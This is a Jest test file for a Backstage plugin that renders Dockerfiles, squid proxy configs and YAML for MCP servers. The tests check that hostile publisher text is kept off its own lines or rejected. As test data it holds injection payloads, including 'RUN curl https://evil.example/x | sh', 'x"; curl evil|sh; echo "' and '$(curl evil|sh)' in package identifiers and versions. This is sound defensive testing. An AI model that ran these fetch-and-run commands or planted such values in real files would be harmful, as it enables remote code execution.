import {
  McpServerProfile,
  RiskLevel,
} from '@mcp-server-operator/plugin-mcp-security-common';
import { InputError } from '@backstage/errors';
import { createMockDirectory } from '@backstage/backend-test-utils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import {
  assessmentOf,
  npmProfile,
  profileOf,
} from '../__testUtils__/assessments';
import { createRenderDeploymentAction } from '../actions/renderDeployment';
import { deploymentPlanOf } from './plan';
import { inlineCode, oneLine } from './text';
import {
  applicableTargets,
  Rendering,
  renderDeployment,
  validateRendering,
} from './render';

/**
 * Text from a server.json or a catalog entity is written by anyone. These
 * tests feed hostile text to the renderers and check the rendered files, not
 * only the plan: nothing the publisher writes may become a line of its own.
 */

const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
const INJECTED = [
  'http_access allow all',
  'RUN curl https://evil.example/x | sh',
  'kind: Secret',
];
/** Every line break followed by each injected directive. */
const hostile = (prefix: string) =>
  BREAKS.map(b => INJECTED.map(i => `${b}${i}`).join('')).join(prefix);

/** An instruction the renderer writes, or the continuation of one. */
const DOCKERFILE_LINE = /^ |^(FROM|ARG|RUN|ENV|WORKDIR|COPY|USER|ENTRYPOINT) /;
const SQUID_DIRECTIVES =
  /^(http_port|acl|http_access|cache|cache_mem|pid_filename|logfile_rotate|access_log|cache_log|coredump_dir|via|forwarded_for) /;

function render(
  profile: McpServerProfile,
  risk: RiskLevel = 'medium',
  entityRef?: string,
) {
  const plan = deploymentPlanOf(
    assessmentOf(profile, risk, entityRef ? { entityRef } : {}),
  );
  const rendering = renderDeployment(plan, {
    targets: applicableTargets(plan),
    namespace: 'mcp',
  });
  return { plan, rendering };
}
const file = (rendering: Rendering, path: string) =>
  rendering.files.find(f => f.path === path)?.content ?? '';
/** The lines that are not comments: what the tool reading the file acts on. */
const live = (text: string) =>
  text
    .split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/)
    .filter(l => l.trim() && !l.startsWith('#'));

describe('oneLine and inlineCode', () => {
  it('keep any text on one line, and a code span whole', () => {
    expect(oneLine('a\nb\r\u2028c\u0000d\te')).toBe('a b  c d e');
    expect(inlineCode('x`y\nz')).toBe('`` x`y z ``');
    expect(inlineCode('plain')).toBe('`plain`');
  });
});

describe('profile text in comments and config lines', () => {
  const benign = render(npmProfile({}, { title: 'Notes' }));
  const cases: [string, () => ReturnType<typeof render>][] = [
    ['title', () => render(npmProfile({}, { title: `Notes${hostile(' ')}` }))],
    [
      'registry name',
      () =>
        render(
          npmProfile(
            {},
            {
              title: 'Notes',
              registryName: `io.github.example/notes${hostile('')}`,
            },
          ),
        ),
    ],
    [
      'entity ref',
      () =>
        render(
          npmProfile({}, { title: 'Notes' }),
          'medium',
          `api:default/notes${hostile('')}`,
        ),
    ],
  ];

  it.each(cases)(
    'keeps a hostile %s out of squid.conf and the Dockerfile',
    (_, make) => {
      const { rendering } = make();
      for (const path of [
        'egress-proxy/squid.conf',
        'egress-proxy/allowlist.txt',
        'Dockerfile',
      ]) {
        const text = file(rendering, path);
        expect(text).not.toMatch(/[\r\u2028\u2029\u0085\v\f]/);
        expect(live(text)).toEqual(live(file(benign.rendering, path)));
      }
      for (const line of live(file(rendering, 'Dockerfile'))) {
        expect(line).toMatch(DOCKERFILE_LINE);
      }
      for (const line of live(file(rendering, 'egress-proxy/squid.conf'))) {
        expect(line).toMatch(SQUID_DIRECTIVES);
      }
      expect(file(rendering, 'egress-proxy/squid.conf')).not.toContain(
        '\nhttp_access allow all',
      );
      expect(file(rendering, 'Dockerfile')).not.toMatch(/\nRUN curl/);
    },
  );

  it.each(cases)(
    'keeps a hostile %s in the comments of the YAML files and off the runbook lines',
    (_, make) => {
      const { rendering } = make();
      expect(() => validateRendering(rendering)).not.toThrow();
      for (const f of rendering.files) {
        expect(f.content).not.toMatch(/[\r\u2028\u2029\u0085\v\f]/);
        expect(f.content).not.toMatch(
          /\n(kind: Secret|http_access allow all|RUN curl)/,
        );
      }
    },
  );
});

describe('package identifiers and versions', () => {
  const EVIL = 'x"; curl evil|sh; echo "';
  const planOf = (profile: McpServerProfile) =>
    deploymentPlanOf(assessmentOf(profile));
  const pypi = (identifier: string, version = '1.0.0') =>
    profileOf({
      packages: [
        {
          registryType: 'pypi',
          identifier,
          version,
          pinned: true,
          transport: 'stdio',
        },
      ],
    });
  const oci = (identifier: string) =>
    profileOf({
      packages: [
        {
          registryType: 'npm',
          identifier: '@example/other',
          pinned: true,
          transport: 'stdio',
        },
        {
          registryType: 'oci',
          identifier,
          pinned: true,
          transport: 'stdio',
        },
      ],
    });

  it.each([
    [
      'npm',
      () => npmProfile({ identifier: EVIL }),
      /^serverJson\.packages\[0\]\.identifier: .* is not an npm package name$/,
    ],
    [
      'npm',
      () => npmProfile({ identifier: '@scope/a/b' }),
      /packages\[0\]\.identifier/,
    ],
    [
      'npm',
      () => npmProfile({ identifier: "it's" }),
      /packages\[0\]\.identifier/,
    ],
    [
      'npm',
      () => npmProfile({ identifier: 'a\nb' }),
      /packages\[0\]\.identifier/,
    ],
    [
      'pypi',
      () => pypi(EVIL),
      /^serverJson\.packages\[0\]\.identifier: .* is not a PyPI project name/,
    ],
    ['pypi', () => pypi('mcp-server-fetch[cli]'), /packages\[0\]\.identifier/],
    [
      'oci',
      () => oci(`ghcr.io/e/notes:1$(curl evil|sh)`),
      /^serverJson\.packages\[1\]\.identifier: .* is not an OCI image reference$/,
    ],
    [
      'oci',
      () => oci('ghcr.io/e/notes:1\nRUN id'),
      /packages\[1\]\.identifier/,
    ],
    ['oci', () => oci('${HOME}/x'), /packages\[1\]\.identifier/],
    [
      'npm version',
      () => npmProfile({ version: `1.0.0"; ${EVIL}` }),
      /^serverJson\.packages\[0\]\.version: .* is not a version or a version range$/,
    ],
    [
      'npm version',
      () => npmProfile({ version: '1.0\nRUN id' }),
      /packages\[0\]\.version/,
    ],
    [
      'pypi version',
      () => pypi('mcp-server-fetch', '$(id)'),
      /packages\[0\]\.version/,
    ],
  ])(
    'refuses a hostile %s with an InputError naming the field',
    (_, make, message) => {
      let error: any;
      try {
        planOf(make());
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(InputError);
      expect(error.message).toMatch(message);
      // The value is quoted on one line in the message.
      expect(error.message).not.toContain('\n');
    },
  );

  it.each([
    [
      'npm',
      () =>
        npmProfile({ identifier: '@modelcontextprotocol/server-filesystem' }),
    ],
    [
      'npm',
      () => npmProfile({ identifier: 'JSONStream', version: '^1.3 || 2.x' }),
    ],
    ['pypi', () => pypi('mcp_server.fetch-2', '>=1.0,!=1.3')],
    [
      'oci',
      () =>
        oci(`ghcr.io/github/github-mcp-server:0.1.0@sha256:${'a'.repeat(64)}`),
    ],
    ['oci', () => oci('localhost:5000/team/notes__x:v1.2-rc.1')],
    ['oci', () => oci('[::1]:5000/notes')],
  ])('accepts a real %s identifier', (_, make) => {
    expect(() => planOf(make())).not.toThrow();
  });

  it('answers quickly for a long hostile reference', () => {
    const started = Date.now();
    expect(() =>
      planOf(oci(`${'a.'.repeat(200)}a/${'b-'.repeat(100)}!`)),
    ).toThrow(InputError);
    expect(Date.now() - started).toBeLessThan(500);
  });

  it('passes the package name to the bin-linking script as an argument, never in its text', () => {
    const text = (identifier: string) =>
      file(render(npmProfile({ identifier })).rendering, 'Dockerfile');
    const script = (content: string) =>
      [...content.matchAll(/node -e '([^']*)'/g)].map(m => m[1]);
    const a = text('@example/notes');
    const b = text('other-server');
    expect(script(a)).toEqual(script(b));
    expect(script(a).join('')).not.toMatch(/notes|supergateway/);
    expect(a).toContain(
      `node -e '${script(a)[0]}' '@example/notes' '/app/server'`,
    );
    expect(a).toContain('"@example/notes@1.2.3"');
  });

  it('writes the exec form as JSON', () => {
    const dockerfile = file(
      render(pypi('mcp_server.fetch-2')).rendering,
      'Dockerfile',
    );
    const entrypoint = /^ENTRYPOINT (.*)$/m.exec(dockerfile)![1];
    expect(JSON.parse(entrypoint)).toEqual([
      '/opt/venv/bin/mcp_server.fetch-2',
    ]);
  });
});

describe('the render-deployment action', () => {
  it('refuses a hostile package identifier in a server.json with an InputError naming the field, and writes nothing', async () => {
    const workspace = createMockDirectory();
    const action = createRenderDeploymentAction({
      client: {
        getAssessment: jest.fn(),
        advise: jest.fn(async () =>
          assessmentOf(npmProfile({ identifier: 'x"; curl evil|sh; echo "' })),
        ),
      },
    });
    const error = await action
      .handler(
        createMockActionContext({
          input: { serverJson: { name: 'io.github.example/notes' } },
          workspacePath: workspace.path,
        }),
      )
      .catch(e => e);
    expect(error).toBeInstanceOf(InputError);
    expect(error.message).toMatch(/^serverJson\.packages\[0\]\.identifier: /);
    expect(workspace.content()).toEqual({});
  });
});
